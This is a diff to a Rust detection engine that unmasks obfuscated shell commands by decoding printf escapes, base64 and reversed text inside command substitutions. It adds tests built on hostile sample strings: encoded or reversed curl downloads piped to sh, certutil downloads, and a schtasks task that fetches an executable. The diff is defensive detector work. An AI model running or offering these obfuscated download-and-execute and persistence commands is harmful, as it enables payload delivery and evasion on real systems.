@@ -237,7 +237,18 @@ impl<'c> Engine<'c> {
     fn words(&self, lang: Lang, c: &Cmd) -> Vec<String> {
         let mut out = Vec::new();
         for w in &c.argv {
-            let x = self.expand(w);
+            let mut x = self.expand(w);
+            let inner = x
+                .strip_prefix("$(")
+                .and_then(|r| r.strip_suffix(')'))
+                .or_else(|| x.strip_prefix('`').and_then(|r| r.strip_suffix('`')));
+            if lang == Lang::Sh
+                && let Some(inner) = inner
+                && let Some(text) = self.static_output(&super::sh::parse(inner, c.line))
+            {
+                // "$(printf '\x63url')", `echo Y3VybA== | base64 -d`
+                x = text;
+            }
             if lang == Lang::Sh && w.contains("IFS") {
                 out.extend(x.split_whitespace().map(str::to_string));
             } else if lang == Lang::Sh
@@ -402,6 +413,30 @@ impl<'c> Engine<'c> {
         true
     }
 
+    /// What a substitution prints when it only prints literal text:
+    /// `echo`/`printf` (escapes decoded), maybe through a decoder.
+    fn static_output(&self, sub: &Script) -> Option<String> {
+        let [p] = sub.pipelines.as_slice() else {
+            return None;
+        };
+        if p.cmds.len() > 1 {
+            let (text, _) = self.decoded_input(Lang::Sh, p)?;
+            return Some(text.trim().to_string());
+        }
+        let c = p.cmds.first()?;
+        let prog = c.argv.first().map(|w| prog_name(w)).unwrap_or_default();
+        let args: Vec<String> = c.argv[1..]
+            .iter()
+            .filter(|a| !a.starts_with('-'))
+            .map(|a| self.expand(a))
+            .collect();
+        match prog.as_str() {
+            "printf" => Some(decode::ansi_c(&args.join(""))),
+            "echo" => Some(args.join(" ")),
+            _ => None,
+        }
+    }
+
     /// The text a pipeline decodes and hands on: `echo B64 | base64 -d`,
     /// `base64 -d <<< B64`, `echo … | rev`.
     fn decoded_input(&self, lang: Lang, p: &Pipeline) -> Option<(String, usize)> {
@@ -441,7 +476,7 @@ impl<'c> Engine<'c> {
             let text = if prog == "rev" {
                 input.chars().rev().collect()
             } else {
-                decode::base64_text(&input)?
+                decode::decoded_text(&input)?
             };
             return Some((text, c.line));
         }
@@ -634,6 +669,8 @@ mod tests {
             "curl${IFS}-o${IFS}/tmp/a${IFS}http://203.0.113.9/a",
             "{curl,-o,/tmp/a,http://203.0.113.9/a}",
             "echo Y3VybCAtbyAvdG1wL2EgaHR0cDovLzIwMy4wLjExMy45L2E= | base64 -d | sh",
+            "$(printf '\\x63\\x75\\x72\\x6c') -o /tmp/a http://203.0.113.9/a",
+            "`echo Y3VybA== | base64 -d` -o /tmp/a http://203.0.113.9/a",
             "base64 --decode <<< Y3VybCAtbyAvdG1wL2EgaHR0cDovLzIwMy4wLjExMy45L2E= | bash",
             "echo 'a/9.311.0.302//:ptth a/pmt/ o- lruc' | rev | sh",
             "D=$(command -v curl || command -v wget); \"$D\" -o /tmp/a http://203.0.113.9/a",
@@ -681,6 +718,27 @@ mod tests {
         ] {
             assert!(!hits(Lang::PowerShell, src).is_empty(), "{src}");
         }
+        assert!(
+            hits(
+                Lang::Batch,
+                "for /f %%i in ('curl -s http://h.example/n') do @echo %%i"
+            )
+            .contains(&"curl".to_string())
+        );
+        assert!(
+            hits(
+                Lang::Batch,
+                "if not exist C:\\a.exe (certutil -urlcache -f http://h.example/a C:\\a.exe)"
+            )
+            .contains(&"certutil".to_string())
+        );
+        assert!(
+            hits(
+                Lang::Batch,
+                "schtasks /create /sc minute /tn u /tr \"curl -o C:\\u.exe http://h.example/u.exe\""
+            )
+            .contains(&"curl".to_string())
+        );
         // Help text in a string is not a command until something runs it.
         assert!(
             hits(
